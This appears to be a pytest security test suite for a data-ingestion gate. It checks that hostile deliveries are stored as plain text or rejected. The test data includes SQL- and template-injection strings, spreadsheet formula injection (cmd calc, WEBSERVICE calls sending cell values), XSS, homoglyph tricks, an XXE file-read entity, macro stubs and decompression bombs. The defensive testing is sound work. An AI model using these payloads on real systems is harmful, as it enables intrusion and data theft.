"""A hostile delivery can do no more than be refused: it is only text, in whatever column or name it stands.

SWP_GIANT_MB sets how large the giant files are (default 128; 2048 is the size that is to be survived).
"""

import gzip
import io
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import (
    STREET,
    Workshop,
    street_rows,
    table,
    with_cells,
)
from lifecycle_files import HEADINGS
from test_bad_input import RESCUES_SHEET, judged, workbook

pytestmark = pytest.mark.usefixtures("plain_judge")

NAME = "2023-01-metropolitan-street.csv"
STATEMENTS = (
    "'); drop table vault.raw.police_uk_street; --",
    "\"; attach '/etc/passwd' as x; --",
    "$$; copy (select 1) to '/tmp/swp-hostile' ; $$",
    "{{ env_var('HOME') }} {% do run_query('drop schema core') %}",
    "Robert'); delete from vault.ledger.deliveries where ('1'='1",
    "?; $1; :x; %s; \\' \\\" \x1b[2J",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
)


def test_statements_in_values_are_kept_as_text(shop, capsys):
    texts = [*STATEMENTS, *FORMULAS]
    rows = with_cells(street_rows(40), STREET, "Location", dict(enumerate(texts)))
    told = judged(shop, capsys, shop.put(NAME, table(STREET, rows)))
    assert told["verdict"] == "accepted"
    held = [
        text
        for (text,) in shop.execute("select location from vault.raw.police_uk_street order by row_number")
    ]
    assert held[: len(texts)] == texts


def test_statements_and_formulas_as_headings_are_only_drift(shop, capsys):
    import openpyxl

    more = [*STATEMENTS, *FORMULAS, "<script>alert(1)</script>"]
    content = table([*STREET, *more], [[*row, *(["1"] * len(more))] for row in street_rows(40)])
    told = judged(shop, capsys, shop.put(NAME, content))
    assert told["verdict"] == "accepted_with_warnings"
    assert all(finding["message"].isprintable() for finding in told["findings"])
    assert shop.one("select count(*) from vault.raw.police_uk_street") == 40
    assert shop.one("select count(*) from vault.ledger.deliveries") == 1
    for path in shop.home.reports.glob("*.html"):
        assert "<script>alert" not in path.read_text(encoding="utf-8")
    books = list(shop.home.reports.glob("*.xlsx"))
    assert books
    for book in map(openpyxl.load_workbook, books):
        cells = [
            cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert not [
            cell.coordinate for cell in cells if str(cell.value).lstrip().startswith(("=", "+", "@", "-"))
        ]


@pytest.mark.parametrize(
    "code",
    [
        "Burgl\N{CYRILLIC SMALL LETTER A}ry",
        "Burglary\N{ZERO WIDTH SPACE}x",
        "\N{RIGHT-TO-LEFT OVERRIDE}yralgruB",
        "\N{FULLWIDTH LATIN CAPITAL LETTER B}urglary",
        "Burg\N{LATIN SMALL LETTER DOTLESS I}ary",
        "Bur\N{COMBINING DIAERESIS}glary",
    ],
)
def test_a_code_that_only_looks_like_one_is_not_taken_for_it(shop, capsys, code):
    rows = with_cells(street_rows(40), STREET, "Crime type", {5: code})
    told = judged(shop, capsys, shop.put(NAME, table(STREET, rows)))
    (finding,) = [each for each in told["findings"] if each["column"] == "Crime type"]
    assert finding["count"] == 1, told["findings"]


def test_digits_of_other_scripts_are_no_month(shop, capsys):
    wide = "".join(unicodedata.lookup(f"FULLWIDTH DIGIT {name}") for name in ("TWO", "ZERO", "TWO", "THREE"))
    rows = with_cells(street_rows(40), STREET, "Month", {5: f"{wide}-01", 6: "2023-\u0660\u0661"})
    told = judged(shop, capsys, shop.put(NAME, table(STREET, rows)))
    assert told["rows_quarantined"] == 2
    assert shop.execute("select distinct month from vault.raw.police_uk_street") == [("2023-01",)]


def test_headings_that_only_look_alike_are_not_taken(shop, capsys):
    headings = [
        heading.replace("Crime type", "Cr\N{CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I}me type")
        for heading in STREET
    ]
    told = judged(shop, capsys, shop.put(NAME, table(headings, street_rows(40))))
    assert told["verdict"] == "rejected"


def test_a_file_whose_every_row_is_malformed_is_refused(shop, capsys):
    told = judged(shop, capsys, shop.put(NAME, table(STREET, [[*row, "", "x"] for row in street_rows(3)])))
    assert (told["verdict"], told["rows_accepted"]) == ("rejected", 0)


class TestWorkbooks:
    def changed(self, parts: dict[str, bytes], **edits) -> bytes:
        """The workbook of rescues with more parts, and `edits` (pattern, replacement) of its first sheet."""
        given = io.BytesIO(workbook(("Data", RESCUES_SHEET)))
        made = io.BytesIO()
        with zipfile.ZipFile(given) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
            for name in old.namelist():
                content = old.read(name)
                if name == "xl/worksheets/sheet1.xml":
                    for pattern, put in edits.values():
                        content, changes = re.subn(pattern.encode(), put.encode(), content, count=1)
                        assert changes
                new.writestr(name, content)
            for name, content in parts.items():
                new.writestr(name, content)
        return made.getvalue()

    def land(self, shop: Workshop, capsys, content: bytes, name: str = "animal rescue.xlsx") -> dict:
        return judged(shop, capsys, shop.put(name, content))

    def test_macros_are_carried_and_never_run(self, shop, capsys):
        content = self.changed({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 100})
        assert self.land(shop, capsys, content, "animal rescue.xlsm")["rows_accepted"] == 1

    def test_links_to_elsewhere_are_not_followed(self, shop, capsys, tmp_path):
        link = (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" TargetMode="External" Target="file://'
            + str(tmp_path / "secret.xlsx").encode()
            + b'" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/externalLinkPath"/></Relationships>'
        )
        (tmp_path / "secret.xlsx").write_bytes(b"secret")
        content = self.changed({"xl/externalLinks/_rels/externalLink1.xml.rels": link})
        assert self.land(shop, capsys, content)["rows_accepted"] == 1

    def test_a_formula_is_its_stored_value(self, shop, capsys):
        cell = r'<c r="E2"[^>]*>.*?</c>'
        formula = '<c r="E2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A2)</f><v>E1</v></c>'
        assert self.land(shop, capsys, self.changed({}, formula=(cell, formula)))["rows_accepted"] == 1
        assert shop.one("select ward_code from vault.raw.lfb_animal_rescue") == "E1"

    def test_a_claim_of_a_billion_cells_is_not_believed(self, shop, capsys):
        claim = (r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"')
        assert self.land(shop, capsys, self.changed({}, claim=claim))["rows_accepted"] == 1

    def test_outside_entities_are_not_read(self, shop, capsys, tmp_path):
        (tmp_path / "secret").write_text("Secret Ward", encoding="utf-8")
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{tmp_path}/secret">]><worksheet'
        cell = (r'<c r="E2"[^>]*>.*?</c>', '<c r="E2" t="inlineStr"><is><t>&e;</t></is></c>')
        told = self.land(shop, capsys, self.changed({}, head=("<worksheet", entity), cell=cell))
        assert "Secret Ward" not in str(told) + shop.reports()
        assert shop.execute("select * from vault.raw.lfb_animal_rescue where ward_code like '%Secret%'") == []


GIANT = int(os.environ.get("SWP_GIANT_MB", "128"))
MOST_MEMORY = 1000  # MB
# A process of its own, so that its memory is that of the verdict alone: it tells verdict, peak in MB, checks.
MEASURED = """
import re, sys
from pathlib import Path
from swp import vault
from swp.gate import judgement
from swp.landing import check
judgement.failing = lambda frame, checks, key: {}
scratch = Path(sys.argv[1])
with vault.in_memory(scratch) as connection:
    for path in sys.argv[2:]:
        for outcome in check(connection, scratch, [Path(path)]):
            peak = re.search("VmHWM:.*?([0-9]+) kB", Path("/proc/self/status").read_text())
            print(outcome.verdict, int(peak[1]) // 1024, *(each.check for each in outcome.inspection.failed))
"""


def giants(folder: Path) -> dict[str, str]:
    """Files that are, or claim to be, larger than any delivery, and the check that has to refuse each."""
    head = table(STREET, street_rows(3))
    nothing, line, packed, zipped = (folder / name for name in ("0.csv", "1.csv", "2.csv.gz", "3.zip"))
    with nothing.open("wb") as file:
        file.write(head)
        file.truncate(GIANT << 20)  # sparse: it takes no room on the disk
    with (
        line.open("wb") as plain,
        gzip.open(packed, "wb", 1) as gz,
        zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("a.csv", "w", force_zip64=True) as entry,
    ):
        for file in (plain, gz, entry):
            file.write(head)
            for _ in range(GIANT):
                file.write(b"a" * (1 << 20))
    texts, lists, rows = (folder / name for name in ("4.parquet", "5.parquet", "6.parquet"))
    long = pa.array(["a" * (1 << 20)])
    codes = pa.array([0] * GIANT, pa.int32())
    repeated = pa.DictionaryArray.from_arrays(codes, long)
    listed = pa.ListArray.from_arrays(pa.array(range(GIANT + 1), pa.int32()), repeated)
    for path, column in ((texts, repeated), (lists, listed)):
        headed = {heading: pa.array(["x"] * GIANT) for heading in HEADINGS}
        pq.write_table(pa.table(headed | {HEADINGS[-1]: column}), path, compression="zstd")
    nulls = pa.table({heading: pa.nulls(10_000_000) for heading in HEADINGS})
    with pq.ParquetWriter(rows, nulls.schema) as writer:
        for _ in range(100 if GIANT >= 2048 else 1):  # a billion
            writer.write_table(nulls, row_group_size=10_000_000)
    return {
        str(nothing): "not_text",
        str(line): "line_too_long",
        str(packed): "compressed_too_far",
        str(zipped): "compressed_too_far",
        str(texts): "compressed_too_far",
        str(lists): "compressed_too_far",
        str(rows): "file_too_large" if GIANT >= 2048 else "compressed_too_far",
    }


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the peak is read from /proc")
def test_giants_are_refused_in_little_memory(shop, tmp_path):
    wanted = giants(tmp_path)
    command = [sys.executable, "-c", MEASURED, str(shop.home.scratch), *wanted]
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=600)
    told = [line.split() for line in done.stdout.splitlines()]
    assert [(verdict, checks) for verdict, _, *checks in told] == [
        ("rejected", [check]) for check in wanted.values()
    ]
    assert max(int(megabytes) for _, megabytes, *_ in told) < MOST_MEMORY, told
